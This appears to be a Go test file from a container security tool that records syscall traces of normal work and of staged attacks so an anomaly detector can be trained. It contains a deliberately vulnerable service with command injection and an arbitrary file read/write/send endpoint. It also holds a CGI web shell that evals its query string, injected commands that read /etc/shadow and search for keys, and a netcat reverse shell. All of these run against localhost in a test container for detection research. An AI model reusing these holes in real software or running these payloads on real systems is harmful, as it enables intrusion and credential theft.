package collector

import (
	"bufio"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/containsec/contain/internal/testenv"
	"github.com/containsec/contain/schemas/containv1"
)

// recSvc is the Go service of the recording: a greeting, a file server
// and a lookup endpoint that builds a shell command from its query (the
// command injection).
const recSvc = `package main

import (
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path"
	"strconv"
	"time"
)

func main() {
	http.HandleFunc("/hello", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "hello %s at %s\n", r.URL.Query().Get("name"), time.Now().Format(time.RFC3339))
	})
	http.HandleFunc("/file", func(w http.ResponseWriter, r *http.Request) {
		b, err := os.ReadFile("/www/" + path.Base(r.URL.Query().Get("name")))
		if err != nil {
			http.Error(w, err.Error(), http.StatusNotFound)
			return
		}
		w.Write(b)
	})
	http.HandleFunc("/store", func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		p := "/tmp/store-" + strconv.Itoa(len(b)%7)
		os.WriteFile(p, b, 0o644)
		fmt.Fprintf(w, "%d bytes\n", len(b))
	})
	// /debug is the in-process exploit: an operation the attacker chooses,
	// run by the service's own threads (no new process).
	http.HandleFunc("/debug", func(w http.ResponseWriter, r *http.Request) {
		q := r.URL.Query()
		switch q.Get("op") {
		case "read":
			b, _ := os.ReadFile(q.Get("path"))
			w.Write(b)
		case "list":
			ents, _ := os.ReadDir(q.Get("path"))
			for _, e := range ents {
				fmt.Fprintln(w, e.Name())
			}
		case "write":
			os.WriteFile(q.Get("path"), []byte(q.Get("data")), 0o755)
		case "send":
			c, err := net.Dial("tcp", q.Get("addr"))
			if err != nil {
				return
			}
			b, _ := os.ReadFile(q.Get("path"))
			c.Write(b)
			c.Close()
		}
	})
	http.HandleFunc("/lookup", func(w http.ResponseWriter, r *http.Request) {
		out, _ := exec.Command("/bin/sh", "-c", "grep -c '"+r.URL.Query().Get("name")+"' /etc/hosts").CombinedOutput()
		w.Write(out)
	})
	if err := http.ListenAndServe(os.Args[1], nil); err != nil {
		panic(err)
	}
}
`

const recStatusCGI = `#!/bin/sh
echo "Content-Type: text/plain"
echo
echo "time: $(date)"
cat /www/motd.txt
`

const recWebShell = `#!/bin/sh
echo "Content-Type: text/plain"
echo
cmd=$(echo "$QUERY_STRING" | sed 's/+/ /g; s/%20/ /g; s/%2F/\//g; s/%7C/|/g')
eval "$cmd" 2>&1
`

// recScripts are the shell work of the container's own jobs.
var recScripts = []string{
	`cd /tmp && ls -la /www > list.txt && wc -l list.txt && rm -f list.txt`,
	`for f in /www/*.html; do grep -c body "$f"; done`,
	`seq 1 %d | awk '{s+=$1} END {print s}'`,
	`cp /www/motd.txt /tmp/motd.%d && gzip -f /tmp/motd.%[1]d && ls /tmp && rm -f /tmp/motd.%[1]d.gz`,
	`date > /tmp/stamp && cat /tmp/stamp && sleep 0.0%d`,
	`find /www -type f | sort | head -n %d`,
	`sed 's/hello/bye/' /www/motd.txt | tr a-z A-Z | md5sum`,
}

// TestRecordSequences records the sequence-mode traces `contain eval`
// reads under analyzer/testdata/sequences: a busybox httpd (static pages,
// a CGI), a Go service and the container's shell jobs doing their normal
// work (train, then held-out normal, differently drawn), then three
// attacks on the same container: a CGI web shell, commands injected into
// the Go service's lookup, and a reverse shell opened through that
// injection, and an in-process exploit of the Go service (its own threads
// read, list, write and send files for the attacker: no new process). A
// trace is the syscalls of the threads one unit of work started (a
// request, a job, an attack), or one service thread's over a phase;
// service threads are left out of the process-starting attacks' phases
// (their traces mix service and attack) and are the in-process attack's
// traces. Run it to re-record:
//
//	CONTAIN_RECORD_SEQUENCES=1 flock /tmp/contain-containers.lock go test -run TestRecordSequences ./collector
func TestRecordSequences(t *testing.T) {
	if os.Getenv("CONTAIN_RECORD_SEQUENCES") != "1" {
		t.Skip("CONTAIN_RECORD_SEQUENCES=1 re-records analyzer/testdata/sequences")
	}
	c, js, _ := startCollector(t, func(c *Config) {
		c.SequenceSelect = []string{"label=" + seqAnnotation + "=rec"}
	})
	raw := consumeRaw(t, js)
	httpPort, svcPort, shellPort := freePort(t), freePort(t), freePort(t)
	ctr := testenv.PrepareContainer(t, "seqrec", testenv.ContainerSpec{
		Annotations: map[string]string{seqAnnotation: "rec"},
		HostNetwork: true,
		Args:        []string{"/bin/sh", "-c", fmt.Sprintf("httpd -f -p 127.0.0.1:%d -h /www & /bin/gosvc 127.0.0.1:%d & wait", httpPort, svcPort)},
	})
	www := filepath.Join(ctr.Rootfs, "www")
	must(t, os.MkdirAll(filepath.Join(www, "cgi-bin"), 0o755))
	for i := range 5 {
		must(t, os.WriteFile(filepath.Join(www, fmt.Sprintf("page%d.html", i)), []byte(fmt.Sprintf("<html><body>page %d %s</body></html>\n", i, strings.Repeat("x", 100*i))), 0o644))
	}
	must(t, os.WriteFile(filepath.Join(www, "motd.txt"), []byte("hello from the recording\n"), 0o644))
	must(t, os.WriteFile(filepath.Join(www, "cgi-bin", "status.cgi"), []byte(recStatusCGI), 0o755))
	buildStatic(t, recSvc, filepath.Join(ctr.Rootfs, "bin", "gosvc"))
	if err := ctr.Start(); err != nil {
		t.Fatal(err)
	}
	waitSelected(t, c, ctr)
	waitHTTP(t, fmt.Sprintf("http://127.0.0.1:%d/page0.html", httpPort))
	waitHTTP(t, fmt.Sprintf("http://127.0.0.1:%d/hello", svcPort))

	get := func(u string) {
		resp, err := http.Get(u)
		if err != nil {
			t.Logf("GET %s: %v", u, err)
			return
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
	}
	var marks []unitMark
	mark := func(kind string) { marks = append(marks, unitMark{time.Now().UnixNano(), kind}) }
	web := fmt.Sprintf("http://127.0.0.1:%d", httpPort)
	svc := fmt.Sprintf("http://127.0.0.1:%d", svcPort)
	normal := func(seed uint64, rounds int) {
		rng := rand.New(rand.NewPCG(seed, 1))
		for range rounds {
			switch k := rng.IntN(8); k {
			case 0, 1:
				mark("page")
				get(fmt.Sprintf("%s/page%d.html", web, rng.IntN(6))) // page5 is a 404
			case 2:
				mark("cgi")
				get(web + "/cgi-bin/status.cgi")
			case 3:
				mark("hello")
				get(fmt.Sprintf("%s/hello?name=u%d", svc, rng.IntN(100)))
			case 4:
				mark("file")
				get(fmt.Sprintf("%s/file?name=page%d.html", svc, rng.IntN(6)))
			case 5:
				mark("store")
				resp, err := http.Post(svc+"/store", "text/plain", strings.NewReader(strings.Repeat("d", rng.IntN(4000))))
				if err == nil {
					io.Copy(io.Discard, resp.Body)
					resp.Body.Close()
				}
			case 6:
				mark("lookup")
				get(svc + "/lookup?name=" + []string{"localhost", "ip6-localhost", "example"}[rng.IntN(3)])
			case 7:
				s := recScripts[rng.IntN(len(recScripts))]
				if strings.Contains(s, "%") {
					s = fmt.Sprintf(s, 1+rng.IntN(9))
				}
				mark("script")
				if out, err := ctr.Exec(30*time.Second, "/bin/sh", "-c", s); err != nil {
					t.Logf("script %q: %v: %s", s, err, out)
				}
			}
		}
	}
	attackCmds := []string{"id", "uname -a", "cat /etc/passwd", "ls -la /", "cat /etc/shadow", "ps", "find / -name *.key", "env",
		"wget -q -O /tmp/x http://127.0.0.1:1/x", "echo c2VjcmV0 | base64 -d", "netstat -an", "whoami"}
	webshell := func(seed uint64, n int) {
		must(t, os.WriteFile(filepath.Join(www, "cgi-bin", "cmd.cgi"), []byte(recWebShell), 0o755))
		rng := rand.New(rand.NewPCG(seed, 2))
		for range n {
			mark("webshell")
			get(web + "/cgi-bin/cmd.cgi?" + url.PathEscape(attackCmds[rng.IntN(len(attackCmds))]))
		}
	}
	inject := func(seed uint64, n int) {
		rng := rand.New(rand.NewPCG(seed, 3))
		for range n {
			cmd := attackCmds[rng.IntN(len(attackCmds))] + "; " + attackCmds[rng.IntN(len(attackCmds))]
			mark("inject")
			get(svc + "/lookup?name=" + url.QueryEscape("x' /etc/hosts; "+cmd+"; echo '"))
		}
	}
	revshell := func(seed uint64, n int) {
		rng := rand.New(rand.NewPCG(seed, 4))
		ln, err := net.Listen("tcp", fmt.Sprintf("127.0.0.1:%d", shellPort))
		must(t, err)
		defer ln.Close()
		for range n {
			mark("revshell")
			go get(svc + "/lookup?name=" + url.QueryEscape(fmt.Sprintf("x' /etc/hosts; nc 127.0.0.1 %d -e /bin/sh; echo '", shellPort)))
			ln.(*net.TCPListener).SetDeadline(time.Now().Add(20 * time.Second))
			conn, err := ln.Accept()
			if err != nil {
				t.Logf("reverse shell: %v", err)
				continue
			}
			var script strings.Builder
			for range 3 + rng.IntN(4) {
				script.WriteString(attackCmds[rng.IntN(len(attackCmds))] + "\n")
			}
			script.WriteString("exit\n")
			conn.SetDeadline(time.Now().Add(20 * time.Second))
			io.WriteString(conn, script.String())
			io.Copy(io.Discard, bufio.NewReader(conn))
			conn.Close()
		}
	}

	inproc := func(seed uint64, n int) {
		rng := rand.New(rand.NewPCG(seed, 5))
		ln, err := net.Listen("tcp", fmt.Sprintf("127.0.0.1:%d", shellPort))
		must(t, err)
		defer ln.Close()
		go func() {
			for {
				c, err := ln.Accept()
				if err != nil {
					return
				}
				io.Copy(io.Discard, c)
				c.Close()
			}
		}()
		ops := []string{"op=read&path=/etc/passwd", "op=read&path=/etc/shadow", "op=list&path=/", "op=list&path=/etc",
			"op=write&path=/tmp/.implant&data=x", fmt.Sprintf("op=send&addr=127.0.0.1:%d&path=/etc/passwd", shellPort)}
		for range n {
			get(svc + "/debug?" + ops[rng.IntN(len(ops))])
		}
	}
	type phase struct {
		dir, name string
		run       func()
		fresh     bool // only threads first seen in this phase
	}
	phases := []phase{
		{"train", "train", func() { normal(1, 900) }, false},
		{"normal", "normal", func() { normal(2, 450) }, false},
		{"attack/webshell", "webshell", func() { webshell(3, 25) }, true},
		{"attack/cmdinject", "cmdinject", func() { inject(4, 25) }, true},
		{"attack/revshell", "revshell", func() { revshell(5, 12) }, true},
		// In-process: the service's own threads do the attacker's work;
		// their traces over the phase are the attack's (idle runtime
		// threads included).
		{"attack/inproc", "inproc", func() { inproc(6, 40) }, false},
	}
	seen := map[uint32]bool{}
	start := len(raw.snapshot())
	out := filepath.Join("..", "analyzer", "testdata", "sequences")
	must(t, os.RemoveAll(out))
	for _, ph := range phases {
		marks = marks[:0]
		ph.run()
		time.Sleep(time.Second) // the last sequence events flush
		evs := raw.snapshot()
		n := writePhase(t, filepath.Join(out, ph.dir), ph.name, evs[start:], ctr.ID, seen, ph.fresh, marks)
		t.Logf("%s: %d traces", ph.name, n)
		start = len(evs)
	}
	if n := countEvents(raw.snapshot(), ctr.ID, func(ev *containv1.Event) bool { return ev.Kind == containv1.Kind_KIND_LOSS }); n != 0 {
		t.Logf("%d loss events: some traces have gaps", n)
	}
}

// maxRecTrace truncates a trace (the dataset stays small).
const maxRecTrace = 3000

// unitMark is the start of one unit of work (a request, a job, an attack).
type unitMark struct {
	ns   int64
	kind string
}

// writePhase writes the traces of ctrID in evs: the threads started by
// one unit of work (those whose first syscall came after its mark and
// before the next), one after the other, are one trace, named
// NAME.KIND-NNNN.txt; a thread seen in an earlier phase (the services'
// own) is one trace of its own, NAME.service-NNNN.txt, and is left out
// when fresh (attack phases).
func writePhase(t *testing.T, dir, name string, evs []*containv1.Event, ctrID string, seen map[uint32]bool, fresh bool, marks []unitMark) int {
	t.Helper()
	must(t, os.MkdirAll(dir, 0o755))
	type thread struct {
		first int64
		seq   []uint32
	}
	var order []uint32
	threads := map[uint32]*thread{}
	for _, ev := range evs {
		s := ev.GetSyscall()
		if ev.ContainerId != ctrID || s == nil || s.Mode != containv1.Syscall_MODE_SEQUENCE {
			continue
		}
		tid := s.Proc.GetPid()
		th := threads[tid]
		if th == nil {
			th = &thread{first: ev.WallNs}
			threads[tid] = th
			order = append(order, tid)
		}
		th.seq = append(th.seq, s.Sequence...)
	}
	units := make([][]uint32, len(marks))
	var traces []struct {
		kind string
		seq  []uint32
	}
	add := func(kind string, seq []uint32) {
		if len(seq) >= 4 {
			traces = append(traces, struct {
				kind string
				seq  []uint32
			}{kind, seq[:min(len(seq), maxRecTrace)]})
		}
	}
	for _, tid := range order {
		th := threads[tid]
		old := seen[tid]
		seen[tid] = true
		u := sort.Search(len(marks), func(i int) bool { return marks[i].ns > th.first }) - 1
		switch {
		case old || u < 0:
			if !fresh {
				add("service", th.seq)
			}
		default:
			units[u] = append(units[u], th.seq...)
		}
	}
	for i, seq := range units {
		add(marks[i].kind, seq)
	}
	for n, tr := range traces {
		var b strings.Builder
		for i, nr := range tr.seq {
			if i > 0 {
				b.WriteByte(' ')
			}
			b.WriteString(strconv.FormatUint(uint64(nr), 10))
		}
		b.WriteByte('\n')
		must(t, os.WriteFile(filepath.Join(dir, fmt.Sprintf("%s.%s-%04d.txt", name, tr.kind, n+1)), []byte(b.String()), 0o644))
	}
	return len(traces)
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func waitHTTP(t *testing.T, u string) {
	t.Helper()
	deadline := time.Now().Add(20 * time.Second)
	for {
		resp, err := http.Get(u)
		if err == nil {
			resp.Body.Close()
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("%s never answered: %v", u, err)
		}
		time.Sleep(100 * time.Millisecond)
	}
}
